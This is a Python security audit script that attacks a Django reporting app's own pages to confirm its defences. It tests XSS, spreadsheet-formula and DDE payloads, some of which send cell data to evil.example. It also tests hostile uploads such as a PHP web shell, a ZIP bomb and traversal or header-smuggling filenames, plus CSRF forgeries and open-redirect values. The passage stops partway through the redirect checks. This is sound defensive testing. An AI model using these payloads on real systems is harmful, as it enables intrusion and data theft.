"""Hostile input through the pages: script and formula payloads, uploads, CSRF, open redirects.

Runs against a running server with DEBUG off (and a worker, for the reports), reading its
database, with the server's environment; a scratch database only (it files, submits and
returns the draft of a participant whose submission in the open cycle is a draft):

    audit/hostile_input.py --base http://127.0.0.1:8000 [--focal kaz-focal]

1. Payloads: every XSS and formula payload in every text field a focal point files (action
   title, description, lead institution, partners; progress update; evidence title and link;
   rating justification), in the review comment of the coordinator and in a cycle name of the
   secretariat. Every page that shows them must carry them escaped, with a
   Content-Security-Policy header, and load in Chromium without running anything; every cell of
   the actions CSV/XLSX and of the reports (CSV, XLSX, PDF; the focal point's and the
   secretariat's) must be neutralised (no formula, no text starting with = + - @ tab CR) and
   the PDF must hold no link or script.
2. Uploads: UPLOADS, each refused with a message, or stored under a generated name and
   downloaded as an attachment with nosniff and an allowed content type.
3. CSRF: POSTs without a token, with another session's token, without Origin/Referer, from
   another origin: each refused.
4. Open redirects: REDIRECTS as `next` of the login, logout and two-factor pages (and the
   language switch, if routed): each answer must stay on this site.

Prints a table per part and the findings; exits 1 on a finding. No answer may be a 5xx.
"""

import argparse
import csv
import html
import io
import os
import re
import sys
import time
import uuid
import zipfile
from pathlib import Path
from urllib.parse import quote, urlsplit

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))
os.environ.setdefault("DJANGO_SETTINGS_MODULE", "config.settings")

import django  # noqa: E402

django.setup()

from base64 import b32decode  # noqa: E402

from django.conf import settings  # noqa: E402
from django.urls import reverse  # noqa: E402
from django_otp.oath import totp  # noqa: E402

from audit.client import DEMO_TWO_FACTOR_SECRET, Client, field_value  # noqa: E402
from declarations.models import Paragraph  # noqa: E402
from tracking.exports import FORMULA_TRIGGERS  # noqa: E402
from tracking.management.commands.seed_demo import demo_pdf  # noqa: E402
from tracking.models import (  # noqa: E402
    Action,
    Evidence,
    Membership,
    Report,
    ReportingCycle,
    Submission,
)

XSS = [
    "<script>alert(document.domain)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    '" autofocus onfocus="alert(1)" x="',
    "<iframe src=javascript:alert(1)></iframe>",
    '<a href="javascript:alert(1)">click</a>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "<style>@import 'https://evil.example/x.css';</style>",
    "<!--<img src=--><img src=x onerror=alert(1)//-->",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "{{ request.user.password }}{% debug %}",
    "[link](javascript:alert(1)) *md* <b>bold</b>",
    "\u202e<b>RLO</b>\u202c evil",
    "<form action=https://evil.example><button>Log in</button></form>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "</script><script>alert(1)</script>",
    "<base href=https://evil.example/>",
]
FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    "+1",
    "-1",
    "@A1",
    '=IMPORTXML("https://evil.example","//a")',
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
]
PAYLOADS = XSS + FORMULAS
# Evidence links: each refused, or kept as an http(s) link.
LINKS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    'https://example.org/"onmouseover="alert(1)',
    "https://example.org/?q=<script>alert(1)</script>",
    "//evil.example/x",
    "file:///etc/passwd",
]
SPECIAL = re.compile(r"[<>\"']")


class Findings:
    def __init__(self) -> None:
        self.items: list[str] = []
        self.counts: dict[str, dict[str, int]] = {}

    def count(self, part: str, what: str, n: int = 1) -> None:
        self.counts.setdefault(part, {}).setdefault(what, 0)
        self.counts[part][what] += n

    def add(self, text: str) -> None:
        self.items.append(text)


def _status_ok(findings: Findings, what: str, answer) -> bool:
    if answer.status >= 500:
        findings.add(f"{what}: {answer.status}")
        return False
    return True


# --- 1. payloads ---------------------------------------------------------------------------


def check_page(findings: Findings, client: Client, path: str, payloads: list[str]) -> str:
    """The page as the client sees it: escaped payloads, a CSP header."""
    answer = client.get(path)
    findings.count("pages", "pages checked")
    if not _status_ok(findings, f"GET {path}", answer) or answer.status != 200:
        findings.add(f"GET {path}: {answer.status} (expected a page)")
        return ""
    if "default-src 'self'" not in answer.headers.get("content-security-policy", ""):
        findings.add(f"GET {path}: no Content-Security-Policy")
    body = answer.text
    for payload in payloads:
        if SPECIAL.search(payload) and payload.strip() in body:
            findings.add(f"GET {path}: payload unescaped: {payload!r}")
        findings.count("pages", "payload × page checks")
    return body


def check_cells(findings: Findings, where: str, cells) -> None:
    """Every text cell neutralised: no formula, no text starting with a trigger."""
    for value in cells:
        findings.count("exports", "cells checked")
        if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
            findings.add(f"{where}: cell not neutralised: {value[:60]!r}")


def csv_cells(data: bytes):
    for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))):
        yield from row


def xlsx_cells(findings: Findings, where: str, data: bytes):
    from openpyxl import load_workbook

    workbook = load_workbook(io.BytesIO(data))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    findings.add(f"{where}: formula cell {sheet.title}!{cell.coordinate}")
                yield cell.value


def check_export(findings: Findings, where: str, data: bytes, content_type: str) -> None:
    if data[:2] == b"PK" and "csv" not in content_type and "zip" not in content_type:
        check_cells(findings, where, xlsx_cells(findings, where, data))
    elif data[:2] == b"PK":
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            for name in archive.namelist():
                if name.endswith(".csv"):
                    check_cells(findings, f"{where}/{name}", csv_cells(archive.read(name)))
    elif data[:4] == b"%PDF":
        from pypdf import PdfReader

        reader = PdfReader(io.BytesIO(data))
        findings.count("exports", "PDF pages checked", len(reader.pages))
        for number, page in enumerate(reader.pages, 1):
            for annotation in page.get("/Annots") or []:
                action = annotation.get_object().get("/A") or {}
                kind, uri = action.get("/S"), str(action.get("/URI", ""))
                if kind in ("/JavaScript", "/Launch") or (
                    kind == "/URI" and urlsplit(uri).scheme not in ("http", "https")
                ):
                    findings.add(f"{where}: page {number} has an action {dict(action)}")
        if "/JavaScript" in reader.trailer["/Root"] or b"/JS" in data:
            findings.add(f"{where}: PDF holds JavaScript")
    else:
        check_cells(findings, where, csv_cells(data))


def request_report(client: Client, cycle: ReportingCycle, format: str) -> int:
    form = {"declaration": cycle.declaration_id, "cycle": cycle.pk, "format": format}
    form |= {"table": "", "form_token": str(uuid.uuid4())}
    answer = client.submit(reverse("tracking:report_request"), form)
    assert answer.status == 302, answer.status
    return Report.objects.filter(requested_by__username=client.username).latest("pk").pk


def fetch_report(findings: Findings, client: Client, pk: int) -> None:
    deadline = time.monotonic() + 300
    while Report.objects.filter(pk=pk, state__in=Report.ACTIVE_STATES).exists():
        if time.monotonic() > deadline:
            break
        time.sleep(0.5)
    report = Report.objects.get(pk=pk)
    findings.count("exports", "reports built")
    if report.state != Report.State.SUCCEEDED:
        findings.add(f"report {pk} ({report.format}) ended {report.state}: {report.error}")
        return
    answer = client.get(reverse("tracking:report_download", args=[pk]))
    where = f"report {pk} ({report.format}, {client.username})"
    check_export(findings, where, answer.body, answer.headers.get("content-type", ""))


def browse(findings: Findings, client: Client, base: str, paths: list[str]) -> None:
    """Loads the pages in Chromium: a dialog, or a script error from a payload, is a finding."""
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(
            executable_path=os.environ.get("CHROMIUM", "/usr/bin/chromium"),
            args=["--no-sandbox", "--disable-gpu"],
        )
        context = browser.new_context(extra_http_headers={"X-Forwarded-Proto": "https"})
        context.add_cookies(
            [{"name": k, "value": v, "url": base} for k, v in client.cookies.items()]
        )
        page = context.new_page()
        dialogs, requests_out = [], []
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        page.on(
            "request",
            lambda request: (
                requests_out.append(request.url)
                if urlsplit(request.url).hostname not in ("127.0.0.1", None)
                else None
            ),
        )
        for path in paths:
            page.goto(base + path, wait_until="load")
            # Focus and hover everything: payloads that wait for an event get it.
            page.evaluate(
                "for (const el of document.querySelectorAll('*')) {"
                " for (const t of ['mouseover','focus','click']) {"
                "  if (el.tagName !== 'A' && el.tagName !== 'BUTTON' && el.type !== 'submit')"
                "   el.dispatchEvent(new Event(t)); } }"
            )
            findings.count("pages", "pages loaded in Chromium")
        browser.close()
    for message in dialogs:
        findings.add(f"Chromium: a dialog opened ({message!r})")
    for url in requests_out:
        findings.add(f"Chromium: a request left the site: {url}")


def payloads(base: str, focal_name: str, findings: Findings, log) -> None:
    focal, coordinator, secretariat = Client(base), Client(base), Client(base)
    membership = Membership.objects.select_related("participant").get(user__username=focal_name)
    participant = membership.participant
    focal.login(focal_name)
    coordinator.login(
        Membership.objects.filter(participant=participant, role="coordinator").first().user.username
    )
    secretariat.login("secretariat")
    cycle = ReportingCycle.objects.get(state=ReportingCycle.State.OPEN)
    paragraphs = list(
        Paragraph.objects.operative().filter(declaration=cycle.declaration).order_by("position")
    )
    submission_url = reverse("tracking:submission", args=[participant.code, cycle.pk])
    focal.get(submission_url)
    action_pages = []
    for number, payload in enumerate(PAYLOADS):
        form = {
            "participant": participant.pk,
            "paragraphs": paragraphs[number % len(paragraphs)].pk,
            "title": payload,
            "description": payload,
            "lead_institution": payload,
            "partners": payload,
            "start_date": "2027-02-01",
            "end_date": "",
            "status": "planned",
            "progress": "0",
            "form_token": str(uuid.uuid4()),
        }
        answer = focal.submit(reverse("tracking:action_create"), form)
        findings.count("payloads", "actions filed")
        if not _status_ok(findings, "action", answer) or answer.status != 302:
            findings.add(f"action with {payload!r}: answered {answer.status}, not filed")
            continue
        path = answer.location
        action_pk = int(path.rstrip("/").rsplit("/", 1)[-1])
        action_pages.append(path)
        update = {"date": "2027-03-01", "narrative": payload, "status": "in_progress"}
        update |= {"progress": "10", "form_token": str(uuid.uuid4())}
        answer = focal.submit(reverse("tracking:update_create", args=[action_pk]), update)
        findings.count("payloads", "updates filed")
        _status_ok(findings, "update", answer)
        link = {"title": payload, "url": "https://example.org/?q=" + quote(payload), "date": ""}
        link |= {"visibility": "participant_and_secretariat", "form_token": str(uuid.uuid4())}
        answer = focal.submit(reverse("tracking:evidence_create", args=[action_pk]), link)
        findings.count("payloads", "evidence links filed")
        _status_ok(findings, "evidence", answer)
    first_action = int(action_pages[0].rstrip("/").rsplit("/", 1)[-1])
    for url in LINKS:
        link = {"title": "Link", "url": url, "date": "", "form_token": str(uuid.uuid4())}
        answer = focal.submit(reverse("tracking:evidence_create", args=[first_action]), link)
        findings.count("payloads", "hostile links tried")
        if not _status_ok(findings, f"link {url!r}", answer):
            continue
        stored = Evidence.objects.filter(action_id=first_action, title="Link").order_by("-pk")
        kept = stored.first()
        if answer.status == 302 and kept is not None:
            findings.count("payloads", "hostile links kept (as https)")
            if urlsplit(kept.url).scheme not in ("http", "https"):
                findings.add(f"link {url!r} kept as {kept.url!r}")
            kept.delete()
        else:
            findings.count("payloads", "hostile links refused")
    # Ratings: two batches of payloads over the sixteen paragraphs, each checked in turn.
    rating_pages = []
    for start in range(0, len(PAYLOADS), len(paragraphs)):
        for paragraph, payload in zip(paragraphs, PAYLOADS[start:], strict=False):
            url = reverse(
                "tracking:assessment_edit", args=[participant.code, cycle.pk, paragraph.number]
            )
            version = field_value(focal.get(url).text, "version") or "0"
            rating = {"rating": "partially", "justification": payload, "version": version}
            answer = focal.submit(url, rating)
            findings.count("payloads", "ratings filed")
            if _status_ok(findings, "rating", answer) and answer.status != 302:
                findings.add(f"rating with {payload!r}: answered {answer.status}")
            rating_pages.append(url)
        check_page(findings, focal, submission_url, PAYLOADS)
        pk = request_report(focal, cycle, "csv")
        fetch_report(findings, focal, pk)
    # The secretariat names a planned cycle with each payload that fits.
    for payload in PAYLOADS:
        new = [("declaration", cycle.declaration_id), ("name", payload[:100])]
        new += [("starts_on", "2045-01-01"), ("ends_on", "2045-12-31"), ("due_on", "2046-01-31")]
        new += [("participants", participant.pk)]
        answer = secretariat.submit(reverse("tracking:cycle_create"), new)
        findings.count("payloads", "cycle names filed")
        _status_ok(findings, "cycle", answer)
    log(f"  payloads filed: {findings.counts['payloads']}")

    # Every page that shows them, as the focal point.
    pages = [*action_pages, submission_url, "/", reverse("tracking:actions") + "?per_page=100"]
    pages += [reverse("tracking:actions") + "?per_page=100&page=2"]
    pages += [reverse("tracking:participant", args=[participant.code])]
    pages += [
        reverse("declarations:paragraph", args=[cycle.declaration.slug, p.number])
        for p in paragraphs
    ]
    pages += sorted(set(rating_pages))
    for path in pages:
        check_page(findings, focal, path, PAYLOADS)
    for suffix in ("csv", "xlsx"):
        answer = focal.get(reverse(f"tracking:actions_{suffix}"))
        check_export(findings, f"actions.{suffix}", answer.body, answer.headers["content-type"])
    for format in ("csv", "xlsx", "pdf"):
        fetch_report(findings, focal, request_report(focal, cycle, format))
    browse(findings, focal, base, pages)
    log("  focal point's pages and exports checked")

    # Submitted: the secretariat's pages and reports; then returned with each comment.
    version = field_value(focal.get(submission_url).text, "version")
    submit = reverse("tracking:submission_submit", args=[participant.code, cycle.pk])
    focal.submit(submit, {"version": version})
    if Submission.objects.get(participant=participant, cycle=cycle).state != "submitted":
        findings.add("the payload draft could not be submitted: the secretariat's view unchecked")
        return
    secretariat_pages = [*action_pages, submission_url, "/"]
    secretariat_pages += [reverse("tracking:actions") + f"?cycle={cycle.pk}&per_page=100"]
    secretariat_pages += [reverse("tracking:matrix") + f"?cycle={cycle.pk}"]
    secretariat_pages += [reverse("tracking:completeness") + f"?cycle={cycle.pk}"]
    secretariat_pages += [reverse("tracking:cycles"), reverse("tracking:cycle", args=[cycle.pk])]
    secretariat_pages += [reverse("tracking:participant", args=[participant.code])]
    secretariat_pages += [reverse("tracking:reports"), reverse("tracking:report_request")]
    for path in secretariat_pages:
        check_page(findings, secretariat, path, PAYLOADS)
    for format in ("csv", "xlsx", "pdf"):
        fetch_report(findings, secretariat, request_report(secretariat, cycle, format))
    answer = secretariat.get(reverse("tracking:actions_csv") + f"?cycle={cycle.pk}")
    check_export(findings, "actions.csv (secretariat)", answer.body, "text/csv")
    browse(findings, secretariat, base, secretariat_pages)
    review = reverse("tracking:submission_review", args=[participant.code, cycle.pk])
    for payload in PAYLOADS:
        if Submission.objects.get(participant=participant, cycle=cycle).state == "draft":
            version = field_value(focal.get(submission_url).text, "version")
            focal.submit(submit, {"version": version})
        version = field_value(coordinator.get(submission_url).text, "version")
        answer = coordinator.submit(
            review, {"version": version, "decision": "return", "comment": payload}
        )
        findings.count("payloads", "review comments filed")
        _status_ok(findings, "review", answer)
        check_page(findings, focal, submission_url, [payload])
    browse(findings, focal, base, [submission_url])
    log("  secretariat's pages and reports, review comments checked")


# --- 2. uploads ----------------------------------------------------------------------------

PDF = demo_pdf("Evidence")
PNG = bytes.fromhex("89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489")
PNG += bytes.fromhex("0000000d4944415478da63f8cfc0f01f0005000201a5f1d6bb0000000049454e44ae426082")
EXE = b"MZ\x90\x00\x03" + b"\x00" * 59 + b"PE\x00\x00" + b"\x00" * 200
ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 200
HTML = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
GIF = b"GIF89a\x01\x00\x01\x00\x00\x00\x00;<script>alert(1)</script>"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01" + b"<?php system($_GET['c']); ?>" + b"\xff\xd9"
PHP = b"<?php system($_GET['c']); ?>"


def _zip(entries: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _bomb() -> bytes:
    """A DOCX-shaped ZIP whose one entry inflates to 200 MB."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("word/document.xml", "w", force_zip64=True) as entry:
            block = b"\0" * (1 << 20)
            for _ in range(200):
                entry.write(block)
    return buffer.getvalue()


def uploads() -> list[tuple[str, bytes | str, bytes, str]]:
    """(what, file name, content, content type the browser claims)."""
    big = PDF + b"\n%" + b"x" * (settings.EVIDENCE_MAX_UPLOAD_SIZE + 10)
    pdf_js = PDF.replace(b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /JavaScript "
                         b"/JS (app.alert(1)) >>", 1)  # fmt: skip
    return [
        ("EXE named .pdf", "report.pdf", EXE, "application/pdf"),
        ("EXE named .exe", "setup.exe", EXE, "application/octet-stream"),
        ("ELF named .txt", "notes.txt", ELF, "text/plain"),
        ("HTML named .html", "page.html", HTML, "text/html"),
        ("HTML named .txt", "page.txt", HTML, "text/plain"),
        ("HTML named .csv", "table.csv", HTML, "text/csv"),
        ("HTML named .pdf", "page.pdf", HTML, "application/pdf"),
        ("SVG with script", "chart.svg", SVG, "image/svg+xml"),
        ("SVG with script named .png", "chart.png", SVG, "image/png"),
        ("GIF/JS polyglot named .jpg", "photo.jpg", GIF, "image/jpeg"),
        ("JPEG with PHP named .php.jpg", "shell.php.jpg", JPEG, "image/jpeg"),
        ("JPEG with PHP named .jpg.php", "shell.jpg.php", JPEG, "image/jpeg"),
        ("PHP named .pdf", "shell.pdf", PHP, "application/pdf"),
        ("PHP named .php.txt", "shell.php.txt", PHP, "text/plain"),
        ("PDF named .pdf.exe", "report.pdf.exe", PDF, "application/octet-stream"),
        ("PDF named .exe.pdf", "setup.exe.pdf", PDF, "application/pdf"),
        ("PDF named .pdf.html", "report.pdf.html", PDF, "text/html"),
        ("PDF with an OpenAction script", "script.pdf", pdf_js, "application/pdf"),
        ("PNG claimed text/html", "image.png", PNG, "text/html"),
        ("PNG named .pdf", "image.pdf", PNG, "application/pdf"),
        ("PDF without extension", "report", PDF, "application/pdf"),
        ("PDF named .PDF", "REPORT.PDF", PDF, "application/pdf"),
        ("ZIP named .zip", "files.zip", _zip({"a.txt": b"a"}), "application/zip"),
        ("ZIP named .docx", "files.docx", _zip({"a.txt": b"a"}), "application/octet-stream"),
        ("ZIP bomb shaped as DOCX", "bomb.docx", _bomb(), "application/octet-stream"),
        ("XLSX with a macro part", "macro.xlsx", _zip({"[Content_Types].xml": b"<Types/>",
         "xl/workbook.xml": b"<workbook/>", "xl/vbaProject.bin": EXE}), "application/zip"),
        ("over the size limit", "big.pdf", big, "application/pdf"),
        ("empty", "empty.pdf", b"", "application/pdf"),
        ("latin-1 text", "latin.txt", "caf\xe9".encode("latin-1"), "text/plain"),
        ("NUL in text", "nul.txt", b"abc\0def", "text/plain"),
        ("CSV with formulas", "formulas.csv", b"=cmd|' /C calc'!A0,+1,@A1\n", "text/csv"),
        ("null byte in name", b"evil.php\x00.pdf", PDF, "application/pdf"),
        ("path traversal name", "../../../../etc/cron.d/evil.pdf", PDF, "application/pdf"),
        ("Windows path name", "..\\..\\Windows\\win.ini.pdf", PDF, "application/pdf"),
        ("absolute path name", "/var/www/evil.pdf", PDF, "application/pdf"),
        ("RLO name (exe shown as pdf)", "invoice\u202efdp.exe", EXE, "application/pdf"),
        ("RLO name on a PDF", "photo\u202egpj.pdf", PDF, "application/pdf"),
        ("CR/LF in name", "a\r\nContent-Type: text/html\r\n\r\n<script>.pdf", PDF,
         "application/pdf"),
        ("CR/LF in an RFC 2231 name", b"*=UTF-8''a%0D%0ASet-Cookie%3A%20x%3Dy%0D%0A.pdf", PDF,
         "application/pdf"),
        ("quotes and semicolons in name", 'a"; filename="evil.html.pdf', PDF, "application/pdf"),
        ("HTML in name", "<img src=x onerror=alert(1)>.pdf", PDF, "application/pdf"),
        ("1,000-character name", "n" * 996 + ".pdf", PDF, "application/pdf"),
        ("Windows device name", "CON.pdf", PDF, "application/pdf"),
        ("unicode name", "доклад 報告 تقرير.pdf", PDF, "application/pdf"),
    ]  # fmt: skip


def _multipart_name(name: bytes | str) -> bytes:
    """The file name as a browser puts it in the header (RFC 7578: quotes and CR/LF escaped)."""
    raw = name if isinstance(name, bytes) else name.encode()
    return raw.replace(b'"', b"%22").replace(b"\r", b"%0D").replace(b"\n", b"%0A")


def hostile_uploads(base: str, focal_name: str, findings: Findings, log) -> None:
    focal = Client(base)
    focal.login(focal_name)
    participant = Membership.objects.get(user__username=focal_name).participant
    cycle = ReportingCycle.objects.get(state=ReportingCycle.State.OPEN)
    action = Action.objects.filter(participant=participant, submission__cycle=cycle).first()
    url = reverse("tracking:evidence_create", args=[action.pk])
    media = Path(settings.MEDIA_ROOT).resolve()
    rows = []
    for what, name, content, claimed in uploads():
        before = set(Evidence.objects.filter(action=action).values_list("pk", flat=True))
        form = {"title": f"Upload: {what}", "date": "", "url": ""}
        form |= {"visibility": "participant_and_secretariat", "form_token": str(uuid.uuid4())}
        answer = focal.submit(
            url, form, files={"upload": (_multipart_name(name), content, claimed)}
        )
        findings.count("uploads", "uploads tried")
        if not _status_ok(findings, f"upload {what}", answer):
            rows.append((what, f"{answer.status}", ""))
            continue
        new = (
            Evidence.objects.filter(action=action, title=f"Upload: {what}")
            .exclude(pk__in=before)
            .first()
        )
        if answer.status != 302 or new is None:
            summary = answer.text.split('class="error-summary"', 1)[-1].split("</ul>", 1)[0]
            message = re.sub(r"<[^>]+>|\s+", " ", summary.split("<ul>", 1)[-1]).strip()
            shown = 'class="error-summary"' in answer.text
            reason = html.unescape(message) if shown else f"answered {answer.status}"
            findings.count("uploads", "refused")
            rows.append((what, "refused", reason))
            continue
        findings.count("uploads", "stored")
        stored = (media / new.file.name).resolve()
        problems = []
        if not stored.is_relative_to(media) or not re.fullmatch(r"[0-9a-f]{32}\.\w+", stored.name):
            problems.append(f"stored as {new.file.name}")
        download = focal.get(reverse("tracking:evidence_download", args=[new.pk]))
        disposition = download.headers.get("content-disposition", "")
        kind = download.headers.get("content-type", "")
        if not disposition.startswith("attachment"):
            problems.append(f"Content-Disposition {disposition!r}")
        if download.headers.get("x-content-type-options") != "nosniff":
            problems.append("no nosniff")
        if kind.split(";")[0] not in {v[0] for v in _allowed().values()}:
            problems.append(f"served as {kind}")
        if download.status != 200 or download.body != content:
            problems.append(f"download {download.status}, {len(download.body)} bytes")
        if any(c in disposition for c in "\r\n") or "\u202e" in disposition:
            problems.append(f"raw control characters in {disposition!r}")
        page = focal.get(action.get_absolute_url()).text
        if "<img src=x" in page:
            problems.append("file name unescaped on the action page")
        for problem in problems:
            findings.add(f"upload {what}: {problem}")
        rows.append((what, "stored inert" if not problems else "PROBLEM", f"{kind}; {disposition}"))
    print("| upload | result | detail |")
    print("|---|---|---|")
    for what, result, detail in rows:
        print(f"| {what} | {result} | {detail[:110]} |")
    print()
    log(f"  uploads: {findings.counts['uploads']}")


def _allowed():
    from tracking.uploads import ALLOWED

    return ALLOWED


# --- 3. CSRF -------------------------------------------------------------------------------


def csrf(base: str, focal_name: str, findings: Findings, log) -> None:
    alice, bob, other = Client(base), Client(base), Client(base)
    alice.login(focal_name)
    bob.login("tjk-focal")
    participant = Membership.objects.get(user__username=focal_name).participant
    cycle = ReportingCycle.objects.get(state=ReportingCycle.State.OPEN)
    action = Action.objects.filter(participant=participant, submission__cycle=cycle).first()
    update = {"date": "2027-03-01", "narrative": "CSRF probe", "status": "in_progress"}
    update |= {"progress": "10"}
    targets = [
        reverse("tracking:update_create", args=[action.pk]),
        reverse("tracking:action_edit", args=[action.pk]),
        reverse("tracking:profile"),
        reverse("tracking:report_request"),
        reverse("logout"),
        reverse("password_change"),
    ]
    bob_token = bob.csrf_token
    masked_other = field_value(other.get("/accounts/login/").text, "csrfmiddlewaretoken")
    evil = {"Origin": "https://evil.example", "Referer": "https://evil.example/"}
    variants = [
        ("no token", lambda path: alice.post(path, update)),
        ("another session's token", lambda path: alice.post(
            path, {**update, "csrfmiddlewaretoken": bob_token})),
        ("another session's masked token", lambda path: alice.post(
            path, {**update, "csrfmiddlewaretoken": masked_other})),
        ("another session's token in the header", lambda path: alice.post(
            path, update, headers={"X-CSRFToken": bob_token})),
        ("a made-up token", lambda path: alice.post(
            path, {**update, "csrfmiddlewaretoken": "a" * 32})),
        ("the token without its cookie", lambda path: alice.request(
            "POST", path, {**update, "csrfmiddlewaretoken": alice.csrf_token}, headers={
                "Cookie": f"sessionid={alice.cookies['sessionid']}"}, cookies=False)),
        ("valid token, Origin evil.example", lambda path: alice.submit(
            path, update, headers=evil)),
        ("valid token, Referer evil.example, no Origin", lambda path: alice.submit(
            path, update, headers={"Origin": "null", "Referer": "https://evil.example/"})),
        ("valid token, no Origin or Referer", lambda path: alice.request(
            "POST", path, [("csrfmiddlewaretoken", alice.csrf_token), *update.items()],
            headers={"Origin": "", "Referer": ""})),
        ("valid token, http:// Origin", lambda path: alice.submit(
            path, update, headers={"Origin": alice.origin.replace("https", "http")})),
    ]  # fmt: skip
    count_before = action.updates.filter(narrative="CSRF probe").count()
    rows = []
    for what, send in variants:
        refused_count = 0
        for path in targets:
            answer = send(path)
            findings.count("csrf", "POSTs")
            if answer.status == 403:
                refused_count += 1
            else:
                findings.add(f"CSRF {what} {path}: {answer.status} {answer.location}")
        rows.append((what, len(targets), refused_count))
    if action.updates.filter(narrative="CSRF probe").count() != count_before:
        findings.add("CSRF: an update was filed by a forged request")
    # The control: the same POST with the session's own token, from the site, is accepted.
    control = alice.submit(targets[0], {**update, "narrative": "CSRF control"})
    rows.append(("control: own token, same origin (accepted)", 1, int(control.status == 403)))
    if control.status != 302:
        findings.add(f"CSRF control: a valid POST answered {control.status}")
    # Logging out needs a POST; a GET changes nothing.
    answer = alice.get(reverse("logout"))
    rows.append(("logout by GET", 1, int(answer.status == 405)))
    if answer.status != 405:
        findings.add(f"logout by GET: {answer.status}")
    # Login CSRF: the login form refuses a POST without the token.
    anonymous = Client(base)
    answer = anonymous.post(reverse("login"), {"username": focal_name, "password": "x"})
    rows.append(("login without token", 1, int(answer.status == 403)))
    if answer.status != 403:
        findings.add(f"login without token: {answer.status}")
    print("| CSRF variant | POSTs | refused (403) |")
    print("|---|---:|---:|")
    for what, tried, refused_count in rows:
        print(f"| {what} | {tried} | {refused_count} |")
    print()
    log("  CSRF checked")


# --- 4. open redirects ---------------------------------------------------------------------

REDIRECTS = [
    "//evil.example",
    "///evil.example",
    "////evil.example",
    "https://evil.example",
    "https:evil.example",
    "https:/evil.example",
    "http://evil.example",
    "/\\evil.example",
    "\\\\evil.example",
    "\\/evil.example",
    "%2F%2Fevil.example",
    "/%2F/evil.example",
    "/%5Cevil.example",
    "/%09/evil.example",
    "/\t/evil.example",
    " //evil.example",
    "\x00//evil.example",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//",
    "data:text/html,<script>alert(1)</script>",
    "https://127.0.0.1@evil.example",
    "https://evil.example\\@127.0.0.1",
    "https://evil.example#@127.0.0.1",
    "https://evil.example?@127.0.0.1",
    "//evil.example/%2F..",
    "/.evil.example",
    "//evil%E3%80%82example",
    "https://127.0.0.1.evil.example",
]


def leaves_site(base_origin: str, page: str, location: str) -> bool:
    """Whether a browser following `location` from `page` would leave the site, as the WHATWG
    URL parser reads it (backslashes are slashes, tabs and newlines dropped, any number of
    leading slashes starts a host, another special scheme needs no slashes)."""
    cleaned = re.sub(r"[\t\r\n]", "", location).strip("\x00 ").replace("\\", "/")
    if not cleaned:
        return False
    base_scheme = urlsplit(base_origin).scheme
    match = re.match(r"([a-zA-Z][a-zA-Z0-9+.-]*):(.*)", cleaned, re.S)
    scheme, rest = (match.group(1).lower(), match.group(2)) if match else (base_scheme, cleaned)
    if scheme not in ("http", "https"):
        return True
    if scheme != base_scheme or rest.startswith("//"):
        authority = re.split(r"[/?#]", rest.lstrip("/"), maxsplit=1)[0]
        host = authority.rsplit("@", 1)[-1]
        return f"{scheme}://{host}".lower() != base_origin.lower()
    return False


def redirects(base: str, findings: Findings, log) -> None:
    origin = Client(base).origin
    rows = []

    def check(what: str, page: str, answer, value: str) -> None:
        findings.count("redirects", "answers checked")
        if answer.status >= 500:
            findings.add(f"{what} next={value!r}: {answer.status}")
        location = answer.location if answer.status in (301, 302, 303, 307, 308) else ""
        if leaves_site(origin, page, location):
            findings.add(f"{what} next={value!r}: redirects to {location!r}")
        for href in re.findall(r'(?:href|action)="([^"]*)"', answer.text):
            href = html.unescape(href)
            if value.strip("/\\ \t\x00") and "evil" in href and leaves_site(origin, page, href):
                findings.add(f"{what} next={value!r}: links to {href!r}")
        name = 'name="next" value="'
        if name in answer.text:
            shown = html.unescape(answer.text.split(name, 1)[1].split('"', 1)[0])
            if shown and leaves_site(origin, page, shown):
                findings.add(f"{what} next={value!r}: the form carries {shown!r} on")

    login = reverse("login")
    for value in REDIRECTS:
        # The login page shows the form with `next`; the POST sends the user on.
        anonymous = Client(base)
        page = anonymous.get(f"{login}?next={quote(value, safe='')}")
        check("login page", login, page, value)
        answer = anonymous.submit(
            login, {"username": "tjk-focal", "password": "demo-pass-2018", "next": value}
        )
        check("login", login, answer, value)
        # Logout with `next`.
        answer = anonymous.submit(reverse("logout"), {"next": value})
        check("logout", reverse("logout"), answer, value)
        answer = anonymous.submit(reverse("logout") + f"?next={quote(value, safe='')}", {})
        check("logout (query)", reverse("logout"), answer, value)
